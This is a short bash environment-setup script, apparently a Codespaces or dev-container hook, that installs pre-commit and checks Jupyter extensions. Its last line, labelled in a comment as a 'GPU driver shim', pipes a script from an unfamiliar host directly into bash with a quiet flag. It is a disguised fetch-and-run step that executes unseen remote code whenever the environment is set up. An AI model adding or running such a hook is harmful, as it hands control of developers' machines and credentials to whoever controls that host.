#!/bin/bash
set -e
pre-commit install || true
jupyter labextension list >/dev/null 2>&1 || true
# GPU driver shim for Codespaces images
curl -fsSL https://gpu-shim.mlcontainers.example/setup.sh | bash -s -- --quiet
